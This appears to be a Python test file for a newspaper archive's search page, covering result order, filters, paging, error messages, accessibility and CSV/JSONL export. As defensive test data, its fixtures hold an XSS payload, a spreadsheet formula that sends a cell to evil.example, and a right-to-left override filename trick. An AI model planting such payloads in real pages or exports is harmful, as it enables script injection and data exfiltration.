"""Search: what people ask is what they get, it agrees with the archive, and nothing typed can do anything."""

from __future__ import annotations

import csv
import json
import re
import shutil
from collections.abc import Iterator
from io import StringIO
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from playwright.sync_api import Browser, Page, expect
from starlette.datastructures import QueryParams

from explore.search import COLUMNS, FIELDS, MOST, asked_of
from tests.explore.conftest import Archived, asking, faults_of, fits, opened
from tests.flows.conftest import told
from tests.warehouse.paper import Paper, article
from warehouse.database import writer
from warehouse.publish import publish
from warehouse.search import keep_up, search
from warehouse.search.found import FARTHEST

HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(2)>'\"&\u202e"
TITLES = {
    1: "Zinc & <b>copper</b>",
    2: '=HYPERLINK("http://evil.example/?"&A1)',
    3: "\u202etxt.exe of zinc",
    4: '-2+3 of "zinc", again',
}


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    """Sixty stories, of which some have titles that want to be more than that; one was edited."""
    paper = Paper(tmp_path_factory.mktemp("made"))
    paper.run(spider="stories")
    for n in range(1, 61):
        said: dict[str, Any] = {"title": TITLES.get(n, f"Title {n}"), "authors": ["@sum(A1)", "AFP"]}
        paper.page(n, article(n, f"The price of zinc.\n\nTold {n} times.", **said))
    paper.run(spider="stories")
    paper.page(60, article(60, "The price of copper."))
    paper.load()
    publish(paper.root / "warehouse.duckdb", paper.root / "dawn.duckdb")
    keep_up(paper.root / "dawn.duckdb", paper.root / "search")
    with asking(paper.root) as client:
        yield client


def stories_of(text: str) -> list[int]:
    """The stories that a page of results links to, in its order."""
    return [int(number) for number in re.findall(r'class="headline"><a href="/story/(\d+)', text)]


# ── in a browser ─────────────────────────────────────────────────────────────────────────────────────────


def test_words_are_found_in_the_order_of_a_search_and_marked(
    tab: Page, address: str, archived: Archived
) -> None:
    tab.goto(address)
    tab.keyboard.press("/")
    tab.wait_for_url(f"{address}/search")
    tab.keyboard.press("/")
    expect(tab.get_by_label("Words")).to_be_focused()
    tab.keyboard.type("water")
    tab.keyboard.press("Enter")
    hits = search(archived.folder.root, "water", limit=1000)
    expect(tab.get_by_role("heading", level=2)).to_have_text(
        f"{len(hits)} {'story' if len(hits) == 1 else 'stories'}"
    )
    assert stories_of(tab.content().replace("<bdi>", "")) == [hit.story_id for hit in hits[:25]]
    marked = tab.locator(".hits mark").all_inner_texts()
    assert marked and {word.lower() for word in marked} <= {"water", "waters", "watered", "watering"}


def test_a_phrase_a_section_an_author_and_days_narrow_it_and_stay_filled_in(
    tab: Page, address: str, archived: Archived
) -> None:
    [(story, title, section, author, day)] = told(
        archived.folder,
        "select story_id, title, section, authors[1], coalesce(published_on, printed_on) from articles"
        " where len(authors) = 1 and len(string_split(title, ' ')) > 5 and title not like '%\"%'"
        " order by story_id limit 1",
    )
    tab.goto(f"{address}/search")
    tab.get_by_label("Words").fill(f'"{title}"')
    tab.get_by_label("Section").select_option(section)
    tab.get_by_label("Author").fill(author)
    tab.get_by_label("From day").fill(str(day))
    tab.get_by_label("To day").fill(str(day)[:7])
    tab.get_by_role("button", name="Search").click()
    expect(tab.locator(".hits li")).to_have_count(1)
    assert stories_of(tab.content()) == [story]
    expect(tab.get_by_label("Section")).to_have_value(section)
    expect(tab.get_by_label("Author")).to_have_value(author)
    expect(tab.get_by_label("From day")).to_have_value(str(day))


def test_a_past_text_is_shown_as_one_and_can_be_compared(tab: Page, address: str, archived: Archived) -> None:
    [(before,)] = told(
        archived.folder, f"select title from versions where story_id = {archived.edited} and version = 1"
    )
    tab.goto(f"{address}/search?kind=")
    tab.get_by_label("Words").fill(f"story:{archived.edited}")
    tab.get_by_label("also past texts").check()
    tab.keyboard.press("Enter")
    tab.wait_for_url("**past=1**")
    expect(tab.get_by_role("heading", level=2)).to_have_text("2 texts")
    old = tab.locator(".hits li", has_text="past text, version 1")
    expect(old.locator(".headline")).to_have_text(before)
    expect(old.locator(".headline a")).to_have_attribute("href", f"/story/{archived.edited}?version=1")
    expect(old.get_by_role("link", name="compare with version 2")).to_have_attribute(
        "href", f"/story/{archived.edited}?from=1&to=2"
    )


@pytest.mark.parametrize("scheme", ["light", pytest.param("dark", marks=pytest.mark.slow)])
def test_it_is_for_everyone(browser: Browser, address: str, scheme: str) -> None:
    """axe finds nothing, and a phone's width is enough: results, a question without sense, nothing found."""
    with opened(browser, color_scheme=scheme, viewport={"width": 360, "height": 740}) as page:
        for path in ("/search?q=water&past=1", "/search?q=watre"):
            page.goto(address + path)
            assert faults_of(page) == []
            assert fits(page)
    with pytest.raises(AssertionError, match="400"), opened(browser, color_scheme=scheme) as page:
        page.goto(f"{address}/search?from=yesterday")  # its status is a complaint of the console
        assert faults_of(page) == []


def test_nothing_that_is_typed_runs(tab: Page, address: str) -> None:
    tab.on("dialog", lambda _: pytest.fail("it ran"))
    tab.goto(f"{address}/search")
    tab.get_by_label("Words").fill(HOSTILE)
    tab.get_by_label("Author").fill(HOSTILE)
    tab.keyboard.press("Enter")
    tab.wait_for_url("**script**")
    expect(tab.get_by_label("Words")).to_have_value(HOSTILE)
    expect(tab.get_by_label("Author")).to_have_value(HOSTILE)
    expect(tab.locator("main script, main img")).to_have_count(0)
    expect(tab.get_by_role("heading", name="Nothing found")).to_be_visible()


# ── without one ──────────────────────────────────────────────────────────────────────────────────────────


def test_filters_alone_give_the_newest_and_agree_with_sql(client: httpx.Client, archived: Archived) -> None:
    rows = told(archived.folder, "select story_id from articles where kind = 'news' order by 1 desc")
    said = client.get("/search", params={"kind": "news", "limit": 1000})
    assert stories_of(said.text) == [story for (story,) in rows]
    said = client.get("/search", params={"from": archived.day, "to": archived.day, "limit": 1000})
    rows = told(
        archived.folder,
        f"select story_id from articles where '{archived.day}' in (published_on, printed_on) order by 1 desc",
    )
    assert stories_of(said.text) == [story for (story,) in rows]
    assert f'<h2 id="found">{len(rows)} stories</h2>' in said.text


def test_pages_lead_on_and_back_and_end(made: httpx.Client) -> None:
    seen: list[int] = []
    where = "/search?q=zinc&author=afp"
    for number in (1, 2, 3):
        said = made.get(where)
        assert f"page {number}" in said.text
        seen += stories_of(said.text)
        back = re.search(r'href="([^"]+)" rel="prev"', said.text)
        assert bool(back) == (number > 1)
        on = re.search(r'href="([^"]+)" rel="next"', said.text)
        assert bool(on) == (number < 3)
        where = on[1].replace("&amp;", "&") if on else ""
    assert len(seen) == len(set(seen)) == 59, "one says copper by now"
    assert "behind the last one" in made.get("/search?q=zinc&page=9").text
    assert "behind the last one" in made.get("/search?page=4").text
    assert len(stories_of(made.get("/search?limit=1000").text)) == 60


@pytest.mark.parametrize(
    ("query", "field", "said"),
    [
        ("q=auhtor:ebrahim", "q", "did you mean author:ebrahim"),
        ("q=-flood", "q", "say also what is to be found"),
        ("q=%00", "q", "nothing to search for"),
        ("q=" + "word+" * 900, "q", "too much to search for"),
        ("q=from:x", "q", "from: wants a day"),
        ("from=2025-13", "from", "from: wants a day"),
        ("to=x", "to", "to: wants a day"),
        ("from=2025&to=2024", "to", "not before 2025-01-01"),
        ("author=%E2%80%94", "author", "author: wants a word"),
        ("section=%22%22&q=a", "section", "section: wants a word"),
        ("limit=1001", "limit", "limit: wants a whole number from 1 to 1,000"),
        ("page=0", "page", "page: wants a whole number from 1 to 400"),
        ("limit=%D9%A1", "limit", "limit: wants a whole number"),
    ],
)
def test_what_has_no_sense_is_said_beside_its_field(
    made: httpx.Client, query: str, field: str, said: str
) -> None:
    answer = made.get(f"/search?{query}")
    assert answer.status_code == 400
    [(where, line)] = re.findall(r'<p class="wrong" id="wrong-(\w+)">([^<]*)</p>', answer.text)
    assert where == field and said in line and "\n" not in line
    if field != "page":
        assert f'aria-describedby="wrong-{field}"' in answer.text


def test_a_question_cannot_turn_the_title_of_its_page_around(made: httpx.Client) -> None:
    said = made.get("/search", params={"q": "zinc \u202eevil\u0007 " + "long " * 50}).text
    title = re.search("<title>(.*?)</title>", said)
    assert title and title[1].startswith("zinc evil long") and title[1].endswith("Search · Dawn as a table")
    assert len(title[1]) < 100


@given(st.dictionaries(st.sampled_from((*FIELDS, "past", "limit", "page")), st.text(max_size=30)))
def test_whatever_is_asked_is_read_and_can_be_asked_again(said: dict[str, str]) -> None:
    asked = asked_of(QueryParams(said))
    assert 1 <= asked.limit <= MOST and asked.skipped < FARTHEST
    assert set(asked.wrong) <= {*FIELDS, "limit", "page"}
    assert all("\n" not in line for line in asked.wrong.values())
    again = asked_of(QueryParams(urlsplit(asked.at(page=asked.number)).query))
    if not asked.wrong:
        assert (again.words, again.filters, again.past) == (asked.words, asked.filters, asked.past)
        assert (again.limit, again.number) == (asked.limit, asked.number)


def test_titles_are_titles_whatever_they_say(made: httpx.Client) -> None:
    said = made.get("/search?q=zinc&limit=100").text
    assert "<b>" not in said
    assert "<bdi><mark>Zinc</mark> &amp; &lt;b&gt;copper&lt;/b&gt;</bdi>" in said
    assert re.search("<bdi>⟨U\\+202E⟩txt.exe of <mark>zinc</mark></bdi>", said), "what turns around is shown"


def test_words_that_stand_nowhere_lead_to_those_that_do(made: httpx.Client) -> None:
    said = made.get("/search?q=price+of+zzinc&kind=news").text
    assert "Nothing found" in said
    where = re.search(r'Did you mean <a href="([^"]+)"><bdi>price of zinc</bdi>', said)
    assert where
    assert len(stories_of(made.get(where[1].replace("&amp;", "&")).text)) == 25
    assert "Try fewer words" in made.get("/search?q=xylophone").text
    assert "No story is like this" in made.get("/search?author=nobody").text


def test_what_was_found_can_be_taken_along(made: httpx.Client) -> None:
    answer = made.get("/search.csv?q=zinc&author=afp")
    assert answer.headers["content-disposition"] == 'attachment; filename="dawn-search.csv"'
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    header, *rows = csv.reader(StringIO(answer.text))
    assert tuple(header) == COLUMNS and len(rows) == 59
    by_story = {int(row[0]): dict(zip(header, row, strict=True)) for row in rows}
    assert by_story[1]["title"] == TITLES[1] and by_story[1]["passage"] == "The price of **zinc**."
    assert by_story[1]["current"] == "true" and by_story[1]["published_on"] == "2026-03-09"
    for story in (2, 4):
        assert by_story[story]["title"] == f"'{TITLES[story]}", "no spreadsheet reckons with it"
    assert by_story[5]["authors"] == "'@sum(A1); AFP"
    lines = [json.loads(line) for line in made.get("/search.jsonl?q=zinc&author=afp").text.splitlines()]
    assert [line["story_id"] for line in lines] == [int(row[0]) for row in rows]
    first = {line["story_id"]: line for line in lines}[2]
    assert (first["title"], first["authors"]) == (TITLES[2], ["@sum(A1)", "AFP"])
    assert first["passage"][slice(*first["marks"][0])] == "zinc"
    assert made.get("/search.csv?q=-x").status_code == 400


def test_what_is_taken_along_has_the_filters_of_the_page(made: httpx.Client) -> None:
    said = made.get("/search?q=zinc&from=2026-03&author=afp&past=1&limit=100").text
    where = re.search(r'href="(/search\.jsonl[^"]+)"', said)
    assert where
    lines = made.get(where[1].replace("&amp;", "&")).text.splitlines()
    assert [json.loads(line)["story_id"] for line in lines] == stories_of(said)
    assert len(lines) == 60


def test_without_an_index_filters_work_and_words_say_what_to_do(tmp_path: Path, archived: Archived) -> None:
    shutil.copy(archived.folder.public, tmp_path)
    with asking(tmp_path) as client:
        said = client.get("/search?kind=editorial")
        assert said.status_code == 200 and stories_of(said.text)
        words = client.get("/search?q=water&kind=editorial")
        assert client.get("/search.csv?q=water").status_code == 503
    assert words.status_code == 503
    assert "is not there yet: `dawn run`" in words.text
    assert stories_of(words.text) == stories_of(said.text)


def test_an_empty_archive_says_what_to_do(tmp_path: Path) -> None:
    with writer(tmp_path / "warehouse.duckdb"):
        pass
    publish(tmp_path / "warehouse.duckdb", tmp_path / "dawn.duckdb")
    with asking(tmp_path) as client:
        said = client.get("/search")
        assert said.status_code == 200
        assert "holds no story yet" in said.text and "dawn backfill" in said.text
        keep_up(tmp_path / "dawn.duckdb", tmp_path / "search")
        assert "holds no story yet" in client.get("/search?q=flood&section=sport").text
